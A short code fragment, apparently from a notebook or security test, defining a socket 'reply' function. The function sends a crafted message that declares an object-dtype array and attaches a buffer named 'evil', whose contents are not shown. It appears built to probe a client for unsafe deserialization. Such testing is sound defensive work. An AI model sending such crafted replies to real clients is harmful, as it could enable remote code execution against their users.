# %%
def reply(sock, send, number):
    send({"id": number, "ok": {"$array": ["|O", [2], 0]}, "buffers": [len(evil)]}, evil)
